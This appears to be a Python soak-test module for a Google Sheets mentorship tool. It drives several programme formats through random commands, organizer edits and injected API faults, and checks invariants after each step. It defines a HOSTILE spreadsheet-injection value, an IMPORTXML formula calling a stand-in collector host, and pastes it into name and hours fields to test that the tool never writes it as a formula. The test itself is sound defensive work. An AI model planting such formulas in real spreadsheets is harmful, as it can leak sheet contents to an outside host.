"""Formats other than pairs in any order: commands, an organizer at the sheet and troubles, judged after every step."""

import re
import tempfile
from collections import Counter
from collections.abc import Callable, Mapping
from contextlib import suppress
from dataclasses import dataclass, field
from datetime import datetime, timedelta
from pathlib import Path
from random import Random
from typing import Any

from mentorship_gsheets.cli.mailroom import make_drafts, send_drafts
from mentorship_gsheets.cli.options import Options
from mentorship_gsheets.cli.session import Session
from mentorship_gsheets.cli.steps import check
from mentorship_gsheets.errors import MentorshipError
from mentorship_gsheets.mailings.rendering import Order
from mentorship_gsheets.programmes import programme_of
from mentorship_gsheets.rehearsal.organizer import act
from mentorship_gsheets.rehearsal.running import Rehearsal, running
from mentorship_gsheets.settings import Settings
from mentorship_gsheets.spreadsheet.plan import Plan
from mentorship_gsheets.spreadsheet.workbook import Row, Tab, Workbook
from mentorship_gsheets.stages import match, rematch
from mentorship_gsheets.workspace.key_files import load
from mentorship_gsheets.workspace.meter import Meter
from mentorship_gsheets.workspace.sheets import open_sheet
from tests.programmes.cohorts import sheet as cohort_sheet
from tests.programmes.speed.sheets import Evening
from tests.soak.evidence import sent_references

STEPS = 9
TROUBLES = (
    *((kind, when) for kind in ("reset", "close", "html") for when in ("before", "after")),
    *((kind, "after") for kind in ("empty", "truncate", "garbage")),
    *((shape, "before") for shape in ("quota", "internal", "unavailable")),
)
_SHAPES = ("quota", "internal", "unavailable")
Typed = dict[tuple[str, str, str], str]
"""What the organizer typed last, by tab, key and header."""


@dataclass
class Bench:
    """A sheet of some format, and what must not get lost in it."""

    google: Rehearsal
    chance: Random
    typed: Typed = field(default_factory=dict)
    ticked: int = 0

    def sheet(self) -> Workbook:
        """The sheet as it is."""
        return open_sheet(self.google.sheet, load(self.google.key_path)).read()

    def tab(self, title: str) -> Tab:
        """One of its tabs."""
        found = self.sheet().tab(title)
        assert found is not None
        return found

    def rows(self, title: str, key: str) -> list[Row]:
        """The rows of a tab that somebody is in."""
        tab = self.tab(title)
        return [row for row in tab.rows if tab.text(row, key)]

    def command(self, name: str) -> None:
        """Run a command on a sheet it opens itself, whatever comes of it."""
        options = Options(
            sheet=self.google.sheet, credentials=str(self.google.key_path), yes=True, quiet=True, take_over=True
        )
        with suppress(MentorshipError):
            session = Session.open(options, Meter(sleep=lambda _: None))
            match name:
                case "check":
                    check(session)
                case "draft" | "check-in" | "graduated" | "changes":
                    mailing = {"draft": "matches", "changes": "rematch"}.get(name, name)
                    make_drafts(session, Order(programme_of(session.settings).mailing(mailing)))
                case "send":
                    send_drafts(session, None)
                case "undo":
                    last = session.sheet.history.done[-1:]
                    session.write(session.sheet.undo(last), takes_back=tuple(step.run.number for step in last))
                case _:
                    session.carry_out(_PLANS[name])

    def edit(self, title: str, key_column: str, key: str, header: str, value: Any) -> None:
        """Type into a cell, in the organizer's name."""
        tab = self.tab(title)
        (row,) = tab.keyed(key_column)[key.casefold()]
        act(self.google.world, [{"edit": tab.address(row, header), "value": value}])

    def tick(self) -> None:
        """Approve some drafts."""
        tab = self.tab("Drafts")
        drafted = [row for row in tab.rows if tab.text(row, "State") == "DRAFTED"]
        for row in drafted[: self.chance.randint(1, 4)]:
            act(self.google.world, [{"edit": tab.address(row, "Reviewed"), "value": True}])

    def judge(self, keys: Mapping[str, str]) -> None:
        """Nobody twice in a tab, no answer a formula, no mail that nobody approved, no mail twice."""
        book = self.sheet()
        for title, key in keys.items():
            tab = book.tab(title)
            assert tab is not None
            count = Counter(text for row in tab.rows if (text := tab.text(row, key)))
            assert [text for text, number in count.items() if number > 1] == [], title
        assert [c for tab in book.tabs for row in tab.rows for c in row.cells if "IMPORTXML" in c.formula] == []
        posted, drafts = sent_references(self.google), book.tab("Drafts")
        ticks = sum(drafts.text(row, "Reviewed") == "TRUE" for row in drafts.rows) if drafts else 0
        assert len(posted) <= ticks
        assert len(set(posted)) == len(posted)
        for (title, key, header), text in self.typed.items():
            tab = book.tab(title)
            assert tab is not None
            (row,) = tab.keyed("Email")[key]
            assert text in tab.text(row, header).splitlines(), (title, key, header)


def _at_the_door(workbook: Workbook, settings: Settings) -> Plan:
    return rematch.plan(workbook, settings, here=True, force=True)


def _without_brake(workbook: Workbook, settings: Settings) -> Plan:
    return rematch.plan(workbook, settings, force=True)


_PLANS: Mapping[str, Callable[[Workbook, Settings], Plan]] = {
    "match": match.plan,
    "rematch": _without_brake,
    "at the door": _at_the_door,
}
HOSTILE = '=IMPORTXML("https://collector.example.net/";"//a")'


def evening(number: int, steps: int = STEPS) -> str:
    """Speed mentoring: rounds that are over stay as they were, whatever happens; typed seats stay until a rematch."""
    return _carried(number, steps, "speed mentoring", _Evening)


def community(number: int, steps: int = STEPS) -> str:
    """Cohorts: typed memberships stay until a rematch, and nobody is in a cohort they did not pick."""
    return _carried(number, steps, "cohorts", _Community)


def office(number: int, steps: int = STEPS) -> str:
    """Office hours: nobody in two slots, no slot over its seats, nobody booked with a mentor who has called off."""
    return _carried(number, steps, "office hours", _Office)


def workshops(number: int, steps: int = STEPS) -> str:
    """Workshop coaches: nobody twice at an event, nobody at two that overlap, no more leads than asked for."""
    return _carried(number, steps, "workshop coaches", _Workshops)


def rounds(number: int, steps: int = STEPS) -> str:
    """Long-term pairs: the pairs of who is done end and are not made again, and a coin once tossed stays."""
    return _carried(number, steps, "long-term pairs", _Rounds)


class _Rounds:
    commands = ("match", "match", "rematch", "draft", "changes", "check-in", "graduated", "send", "check", "undo")
    keys: Mapping[str, str] = {"Mentors": "Email", "Mentees": "Email"}

    def __init__(self, bench: Bench) -> None:
        self.bench = bench
        self.coins: dict[str, str] = {}
        self.over: set[tuple[str, str]] = set()
        desk = Evening(bench.google)
        for title, count in (("Mentors", 5), ("Mentees", 8)):
            desk.paste(
                title,
                [
                    {
                        "Email": f"{title[:-1].lower()}{n}@example.org",
                        "Name": HOSTILE if n == 2 else f"{title[:-1]} {n}",
                        "Kind of mentoring": bench.chance.choice(("Career", "Technical", "")),
                        "Time zone": bench.chance.choice(("UTC", "UTC+9")),
                        "Bin": "Other",
                    }
                    for n in range(1, count + 1)
                ],
            )
        desk.say(Round="2027 spring", Try_out="time zone")

    def deed(self) -> None:
        """Something that happens between two runs."""
        bench, chance = self.bench, self.bench.chance
        mentee = f"mentee{chance.randint(1, 8)}@example.org"
        match chance.choice(("over", "over", "another", "withdraw", "capacity", "round", "days", "tick", "tick")):
            case "over":
                pair = self.pairs().get(mentee)
                bench.edit("Mentees", "Email", mentee, "Pair", chance.choice(("graduated", "ended")))
                if pair:
                    self.over.add((mentee, pair))
            case "another":
                bench.edit("Mentees", "Email", mentee, "Pair", "wants another")
            case "withdraw":
                title = chance.choice(("Mentors", "Mentees"))
                bench.edit(
                    title, "Email", f"{title[:-1].lower()}{chance.randint(1, 5)}@example.org", "Status", "withdrawn"
                )
            case "capacity":
                bench.edit("Mentors", "Email", f"mentor{chance.randint(1, 5)}@example.org", "Capacity", 2)
            case "round":
                bench.edit("Settings", "Setting", "Round", "Value", f"2027 {chance.choice(('summer', 'autumn'))}")
            case "days":
                self.later(chance.choice((15, 40)))
            case _:
                bench.tick()

    def later(self, days: int) -> None:
        """Time passes: what was sent was sent so much longer ago."""
        tab = self.bench.tab("Drafts")
        for row in self.bench.rows("Drafts", "Key"):
            if tab.text(row, "State") == "SENT":
                then = datetime.fromisoformat(tab.text(row, "Changed")) - timedelta(days=days)
                edit = {"edit": tab.address(row, "Changed"), "value": f"{then:%Y-%m-%d %H:%M:%S}"}
                act(self.bench.google.world, [edit])

    def pairs(self) -> dict[str, str]:
        """Mentee -> the mentor named, by address."""
        tab = self.bench.tab("Mentees")
        named = {tab.text(row, "Email"): tab.text(row, "Mentor match") for row in self.bench.rows("Mentees", "Email")}
        return {mentee: text.rpartition("<")[2].rstrip(">") for mentee, text in named.items() if text}

    def forgotten(self, command: str) -> bool:
        """Whether a command may change what was typed."""
        if command == "undo":
            self.coins.clear()
            self.over.clear()
        return command in ("rematch", "undo")

    def judge(self) -> None:
        """Nobody has two mentors, and coins stay."""
        tab = self.bench.tab("Mentees")
        assert [text for text in _texts(self.bench, "Mentees", "Mentor match") if len(text.splitlines()) > 1] == []
        now = {tab.text(row, "Email"): coin for row in tab.rows if (coin := tab.text(row, "Try out"))}
        assert {email: now.get(email) for email in self.coins} == self.coins
        self.coins = now

    def finish(self) -> None:
        """Both sides say the same, nobody is paired who has withdrawn, and no pair that is over was made again."""
        pairs, mentors = self.pairs(), self.bench.tab("Mentors")
        theirs = {
            (mentee, mentors.text(row, "Email"))
            for row in mentors.rows
            for mentee in re.findall(r"<([^>]+)>", mentors.text(row, "Mentee match"))
        }
        assert set(pairs.items()) == theirs
        gone = {
            tab.text(row, "Email")
            for tab in map(self.bench.tab, ("Mentors", "Mentees"))
            for row in tab.rows
            if tab.text(row, "Status") == "withdrawn"
        }
        assert gone & {who for pair in pairs.items() for who in pair} == set()
        tab = self.bench.tab("Mentees")
        done = {tab.text(row, "Email") for row in tab.rows if tab.text(row, "Pair") in ("graduated", "ended")}
        assert {pair for pair in self.over if pair[0] in done} & set(pairs.items()) == set()


def organizers(number: int, steps: int = STEPS) -> str:
    """Organizer mentoring: the sheet's own sums are those of the lines, whatever happens to pairs and people."""
    return _carried(number, steps, "organizer mentoring", _Organizers)


class _Evening:
    commands = ("match", "match", "at the door", "rematch", "check", "draft", "send", "undo")
    keys: Mapping[str, str] = {"Mentors": "Email", "Mentees": "Email", "Seating": "Email", "Tables": "Table"}

    def __init__(self, bench: Bench) -> None:
        self.bench = bench
        self.over: dict[str, tuple[str, ...]] = {}
        desk = Evening(bench.google)
        fields = ("Physics", "Biology", "Geology")
        sizes = {"Mentors": 4, "Mentees": 9}
        for title, count in sizes.items():
            desk.paste(
                title,
                [
                    {
                        "Email": f"{title[:-1].lower()}{n}@example.org",
                        "Name": HOSTILE if n == 2 else f"{title[:-1]} {n}",
                        "Fields": bench.chance.choice(fields),
                    }
                    for n in range(1, count + 1)
                ],
            )
        desk.say(Rounds=3, Minutes=10, Begins="07:30", Starts="2027-07-06", Size_slack=1)

    def deed(self) -> None:
        """Something the organizer does at the door."""
        bench, chance = self.bench, self.bench.chance
        rows = bench.rows("Seating", "Email")
        done = int(bench.tab("Settings").text(bench.tab("Settings").keyed("Setting")["rounds done"][0], "Value") or "0")
        what = chance.choice(("absent", "walk-in", "mentor", "done", "seat", "tick"))
        if what == "tick":
            bench.tick()
        elif what == "walk-in":
            tab = bench.tab("Seating")
            place = max((row.number for row in tab.rows if not row.blank), default=1) + 1
            cell = f"'Seating'!B{place}"
            act(bench.google.world, [{"edit": cell, "value": f"Walker {place}"}])
        elif what == "mentor":
            bench.edit("Mentors", "Email", f"mentor{chance.randint(1, 4)}@example.org", "Here", chance.random() < 0.5)
        elif rows:
            key = bench.tab("Seating").text(chance.choice(rows), "Email")
            if what == "absent":
                bench.edit("Seating", "Email", key, "Here", chance.random() < 0.4)
            elif what == "done" and done < 2:
                bench.edit("Settings", "Setting", "Rounds done", "Value", done + 1)
                self.over = self.seats(done + 1)
            elif what == "seat" and done < 3:
                table = chance.choice(_texts(bench, "Tables", "Table"))
                bench.edit("Seating", "Email", key, "Round 3", table)
                bench.typed["Seating", key, "Round 3"] = table

    def forgotten(self, command: str) -> bool:
        """Whether a command may change what was typed."""
        return command in ("rematch", "at the door", "undo")

    def judge(self) -> None:
        """Rounds that are over are those that were over."""
        now = self.seats(3)
        assert {key: row[: len(over)] for key, over in self.over.items() if (row := now.get(key))} == {
            key: over for key, over in self.over.items() if key in now
        }

    def finish(self) -> None:
        """Everybody who is there has a seat."""
        tab = self.bench.tab("Seating")
        done = len(next(iter(self.over.values()), ()))
        for row in self.bench.rows("Seating", "Email"):
            seats = [tab.text(row, f"Round {turn}") for turn in range(done + 1, 4)]
            assert all(seats) or tab.text(row, "Here") == "FALSE", tab.text(row, "Email")

    def seats(self, turns: int) -> dict[str, tuple[str, ...]]:
        tab = self.bench.tab("Seating")
        return {
            tab.text(row, "Email"): tuple(tab.text(row, f"Round {turn}") for turn in range(1, turns + 1))
            for row in self.bench.rows("Seating", "Email")
        }


class _Community:
    commands = ("match", "match", "rematch", "rematch", "check", "draft", "send", "undo")
    keys: Mapping[str, str] = {"Mentors": "Email", "Mentees": "Email"}

    def __init__(self, bench: Bench) -> None:
        self.bench = bench
        desk = Evening(bench.google)
        sizes = {"Min mentors": 1, "Wanted mentors": 1, "Max mentors": 2, "Min mentees": 1, "Wanted mentees": 2}
        cohort_sheet.paste(desk, "Cohorts", [{"Task": task, **sizes, "Max mentees": 4} for task in ("deploy", "talk")])
        for title, count in (("Mentors", 4), ("Mentees", 9)):
            cohort_sheet.paste(
                desk,
                title,
                [
                    {
                        "Email": f"{title[:-1].lower()}{n}@example.org",
                        "Name": HOSTILE if n == 2 else f"{title[:-1]} {n}",
                        "Tasks": bench.chance.choice(("deploy; talk", "talk; deploy", "talk", "deploy")),
                        "Time zone": bench.chance.choice(("UTC", "UTC+01:00", "UTC-05:00", "")),
                    }
                    for n in range(1, count + 1)
                ],
            )

    def deed(self) -> None:
        """Something an organizer does between two runs."""
        bench, chance = self.bench, self.bench.chance
        title = chance.choice(("Mentors", "Mentees"))
        key = f"{title[:-1].lower()}{chance.randint(1, 4 if title == 'Mentors' else 9)}@example.org"
        what = chance.choice(("withdraw", "move", "empty", "close", "done", "tick"))
        labels = list(_texts(bench, "Cohorts", "Cohort"))
        if what == "tick":
            bench.tick()
        elif what == "withdraw":
            bench.edit(title, "Email", key, "Status", "withdrawn")
        elif what == "empty":
            bench.edit(title, "Email", key, "Cohorts", "")
            bench.typed.pop((title, key, "Cohorts"), None)
        elif labels:
            label = chance.choice(labels)
            if what == "move":
                bench.edit(title, "Email", key, "Cohorts", label)
                bench.typed[title, key, "Cohorts"] = label
            elif what == "close":
                bench.edit("Cohorts", "Cohort", label, "State", "closed")
            else:
                bench.edit("Mentees", "Email", f"mentee{chance.randint(1, 9)}@example.org", "Done", "talk 2027-03-01")

    def forgotten(self, command: str) -> bool:
        """Whether a command may change what was typed."""
        return command in ("rematch", "undo")

    def judge(self) -> None:
        """Every line of a cell names a cohort that has a row, and no row twice."""
        labels = Counter(_texts(self.bench, "Cohorts", "Cohort"))
        assert [label for label, number in labels.items() if number > 1] == []
        for title in ("Mentors", "Mentees"):
            for text in _texts(self.bench, title, "Cohorts"):
                assert set(text.splitlines()) <= labels.keys()

    def finish(self) -> None:
        """The copies in the tab say what the cells of people say."""
        tab = self.bench.tab("Cohorts")
        for row in self.bench.rows("Cohorts", "Cohort"):
            label = tab.text(row, "Cohort")
            for title in ("Mentors", "Mentees"):
                people = self.bench.tab(title)
                inside = {
                    people.text(one, "Email")
                    for one in people.rows
                    if label in people.text(one, "Cohorts").splitlines() and people.text(one, "Status") != "withdrawn"
                }
                assert set(re.findall(r"<([^>]+)>", tab.text(row, title))) == inside, (label, title)


class _Office:
    commands = ("match", "match", "rematch", "rematch", "check", "draft", "send", "undo")
    keys: Mapping[str, str] = {"Mentors": "Email", "Mentees": "Email", "Slots": "Slot"}

    def __init__(self, bench: Bench) -> None:
        self.bench = bench
        desk = Evening(bench.google)
        mentors = [{"Email": f"mentor{n}@example.org", "Name": f"Mentor {n}", "Time zone": "UTC"} for n in range(1, 4)]
        cohort_sheet.paste(desk, "Mentors", mentors)
        slots = [
            {"Slot": f"S{n}", "Mentor": f"mentor{1 + n % 3}@example.org", "Starts": f"2037-07-{6 + n:02} 16:00"}
            for n in range(1, 7)
        ]
        cohort_sheet.paste(desk, "Slots", slots)
        mentees = [
            {
                "Email": f"mentee{n}@example.org",
                "Name": HOSTILE if n == 2 else f"Mentee {n}",
                "Picks": "; ".join(f"S{pick}" for pick in bench.chance.sample(range(1, 7), 3)),
                "Waited": bench.chance.randint(0, 2),
            }
            for n in range(1, 8)
        ]
        cohort_sheet.paste(desk, "Mentees", mentees)

    def deed(self) -> None:
        """Something that changes between two runs."""
        bench, chance = self.bench, self.bench.chance
        slot = f"S{chance.randint(1, 6)}"
        match chance.choice(("withdraw", "off", "cancel", "move", "tick", "tick")):
            case "withdraw":
                bench.edit("Mentees", "Email", f"mentee{chance.randint(1, 7)}@example.org", "Status", "withdrawn")
            case "off":
                bench.edit("Slots", "Slot", slot, "State", "withdrawn")
            case "cancel":
                bench.edit("Slots", "Slot", slot, "Booked", "")
            case "move":
                bench.edit("Slots", "Slot", slot, "Starts", f"2037-07-{6 + int(slot[1:]):02} 17:00")
            case _:
                bench.tick()

    def forgotten(self, command: str) -> bool:
        """Whether a command may change what was typed."""
        return command in ("rematch", "undo")

    def judge(self) -> None:
        """Nobody is in two slots, and every slot has one seat."""
        booked = [line for text in _texts(self.bench, "Slots", "Booked") for line in text.splitlines()]
        assert [line for line, number in Counter(booked).items() if number > 1] == []
        assert [text for text in _texts(self.bench, "Slots", "Booked") if len(text.splitlines()) > 1] == []

    def finish(self) -> None:
        """Nobody is booked who has withdrawn, or into a slot that was."""
        tab = self.bench.tab("Slots")
        off = [row for row in self.bench.rows("Slots", "Slot") if tab.text(row, "State") == "withdrawn"]
        assert [tab.text(row, "Booked") for row in off if tab.text(row, "Booked")] == []
        people = self.bench.tab("Mentees")
        gone = [people.text(row, "Email") for row in people.rows if people.text(row, "Status") == "withdrawn"]
        assert [who for who in gone for text in _texts(self.bench, "Slots", "Booked") if f"<{who}>" in text] == []


class _Workshops:
    commands = ("match", "match", "rematch", "rematch", "check", "draft", "send", "undo")
    keys: Mapping[str, str] = {"Mentors": "Email", "Events": "Event"}

    def __init__(self, bench: Bench) -> None:
        self.bench = bench
        desk = Evening(bench.google)
        events = [
            {
                "Event": f"E{n}",
                "Starts": f"2037-07-{6 + n // 2:02} {9 + n}:00",
                "Ends": "18:00",
                "Time zone": "UTC",
                "Coaches needed": 1,
            }
            for n in range(1, 5)
        ]
        cohort_sheet.paste(desk, "Events", events)
        coaches = [
            {
                "Email": f"mentor{n}@example.org",
                "Name": HOSTILE if n == 2 else f"Mentor {n}",
                "Events": "; ".join(f"E{pick}" for pick in bench.chance.sample(range(1, 5), 3)),
                "Coach as": bench.chance.choice(("lead", "coach", "lead or coach")),
                "Events a season": bench.chance.randint(1, 2),
            }
            for n in range(1, 8)
        ]
        cohort_sheet.paste(desk, "Mentors", coaches)

    def deed(self) -> None:
        """Something that changes between two runs."""
        bench, chance = self.bench, self.bench.chance
        event = f"E{chance.randint(1, 4)}"
        match chance.choice(("withdraw", "cancel", "move", "confirm", "tick", "tick")):
            case "withdraw":
                bench.edit("Mentors", "Email", f"mentor{chance.randint(1, 7)}@example.org", "Status", "withdrawn")
            case "cancel":
                bench.edit("Events", "Event", event, "Coach match", "")
                bench.edit("Events", "Event", event, "Confirmed", "")
            case "move":
                bench.edit("Events", "Event", event, "Where", f"Room {chance.randint(1, 9)}")
            case "confirm":
                tab = bench.tab("Events")
                (row,) = tab.keyed("Event")[event.casefold()]
                said = tab.text(row, "Coach match").replace(" (lead)", "")
                bench.edit("Events", "Event", event, "Confirmed", said)
            case _:
                bench.tick()

    def forgotten(self, command: str) -> bool:
        """Whether a command may change what was typed."""
        return command in ("rematch", "undo")

    def judge(self) -> None:
        """Nobody is twice at an event, and no event has two who lead."""
        for text in _texts(self.bench, "Events", "Coach match"):
            people = re.findall(r"<([^>]+)>", text)
            assert len(set(people)) == len(people), text
            assert text.count("(lead)") <= 1, text

    def finish(self) -> None:
        """Nobody coaches who has withdrawn."""
        people = self.bench.tab("Mentors")
        gone = [people.text(row, "Email") for row in people.rows if people.text(row, "Status") == "withdrawn"]
        assert [who for who in gone for text in _texts(self.bench, "Events", "Coach match") if f"<{who}>" in text] == []


class _Organizers:
    commands = ("match", "match", "rematch", "rematch", "check", "draft", "send", "undo")
    keys: Mapping[str, str] = {"Mentors": "Email", "Mentees": "Email"}

    def __init__(self, bench: Bench) -> None:
        self.bench = bench
        desk = Evening(bench.google)
        for title, count in (("Mentors", 4), ("Mentees", 5)):
            cohort_sheet.paste(
                desk,
                title,
                [
                    {
                        "Email": f"{title[:-1].lower()}{n}@example.org",
                        "Name": HOSTILE if n == 2 else f"{title[:-1]} {n}",
                        "Help with": bench.chance.choice(("Budget; Venue", "Sponsors", "Venue")),
                        "Attendees": str(bench.chance.choice((60, 150, 400))),
                    }
                    for n in range(1, count + 1)
                ],
            )
        # rows typed by hand get their formulas
        desk.run("setup")

    def deed(self) -> None:
        """Something that changes between two runs."""
        bench, chance = self.bench, self.bench.chance
        mentee = f"mentee{chance.randint(1, 5)}@example.org"
        match chance.choice(("withdraw", "part", "hours", "hours", "hours", "tick")):
            case "withdraw":
                title = chance.choice(("Mentors", "Mentees"))
                bench.edit(
                    title, "Email", f"{title[:-1].lower()}{chance.randint(1, 4)}@example.org", "Status", "withdrawn"
                )
            case "part":
                bench.edit("Mentees", "Email", mentee, "Mentor match", "")
            case "hours":
                line = {
                    "Date": "2026-03-01",
                    "Who": f"<mentor{chance.randint(1, 4)}@example.org>",
                    "With": f"<{mentee}>",
                }
                more = {"Hours": chance.choice((1, 1.5, 2, "long")), "What": HOSTILE}
                cohort_sheet.paste(Evening(bench.google), "Hours", [line | more])
            case _:
                bench.tick()

    def logged(self) -> list[dict[str, Any]]:
        """The lines of hours, numbers as numbers."""
        tab = self.bench.tab("Hours")
        rows = [row for row in tab.rows if not row.blank]
        headers = ("Date", "Who", "With", "Hours", "What")
        return [{header: _typed(tab.text(row, header)) for header in headers} for row in rows]

    def forgotten(self, command: str) -> bool:
        """Whether a command may change what was typed."""
        return command in ("rematch", "undo")

    def judge(self) -> None:
        """The sheet's own sum of a pair is that of the lines that name the two."""
        people, hours = self.bench.tab("Mentees"), self.logged()
        for row in self.bench.rows("Mentees", "Email"):
            shown, mentor = people.text(row, "Hours so far"), people.text(row, "First partner")
            pair = {f"<{mentor}>", f"<{people.text(row, 'Email')}>"}
            mine = [line["Hours"] for line in hours if {line["Who"], line["With"]} == pair]
            counted = sum(number for number in mine if not isinstance(number, str))
            assert (float(shown) if shown else 0) == (counted if mentor else 0), people.text(row, "Email")

    def finish(self) -> None:
        """Whoever has withdrawn is in nobody's cell."""
        for title, header, other in (("Mentors", "Mentee match", "Mentees"), ("Mentees", "Mentor match", "Mentors")):
            tab = self.bench.tab(other)
            gone = [tab.text(row, "Email") for row in tab.rows if tab.text(row, "Status") == "withdrawn"]
            assert [who for who in gone for text in _texts(self.bench, title, header) if f"<{who}>" in text] == []


def _typed(text: str) -> str | float:
    try:
        return float(text)
    except ValueError:
        return text


def _texts(bench: Bench, title: str, header: str) -> list[str]:
    tab = bench.tab(title)
    return [text for row in tab.rows if (text := tab.text(row, header))]


def _carried(
    number: int,
    steps: int,
    name: str,
    kind: type[_Evening | _Community | _Office | _Workshops | _Organizers | _Rounds],
) -> str:
    """Carry a sheet of the format through in an order of its own; return what went wrong, or nothing."""
    chance = Random(number)  # noqa: S311 - an order to try things in, no secret
    done: list[str] = []
    with tempfile.TemporaryDirectory(prefix="formats-") as folder:
        state, key = Path(folder) / "state.sqlite", Path(folder) / "key.json"
        with running("empty", key_path=key, state=state) as google:
            try:
                Evening(google).run("setup", "--format", name, "--programme", "SoakConf", "--sender", google.mailbox)
                bench = Bench(google, chance)
                life = kind(bench)
                bench.command("match")
                for _ in range(steps):
                    if chance.random() < 0.5:
                        done.append("deed")
                        life.deed()
                        continue
                    command = chance.choice(life.commands)
                    done.append(command)
                    if chance.random() < 0.6:
                        trouble, when = chance.choice(TROUBLES)
                        shape = {"shape": trouble} if trouble in _SHAPES else {}
                        done[-1] += f" ({trouble} {when})"
                        nth = chance.randint(1, 6)
                        google.fault(
                            "refuse" if shape else trouble, when=when, nth=nth, times=1, method="[sfg]*.*", **shape
                        )
                    if life.forgotten(command):
                        bench.typed.clear()
                    bench.command(command)
                    google.control("DELETE", "faults")
                    bench.judge(life.keys)
                    life.judge()
                bench.typed.clear()
                for command in ("at the door" if kind is _Evening else "rematch", "match"):
                    bench.command(command)
                    bench.command(command)
                before = [(tab.title, tab.rows) for tab in bench.sheet().tabs if tab.title != "Log"]
                bench.command("match")
                assert [(tab.title, tab.rows) for tab in bench.sheet().tabs if tab.title != "Log"] == before
                bench.judge(life.keys)
                life.judge()
                life.finish()
            except Exception as error:
                # whatever it is, it is what the soak looks for
                return f"{type(error).__name__}: {error} after {', '.join(done)}"
    return ""
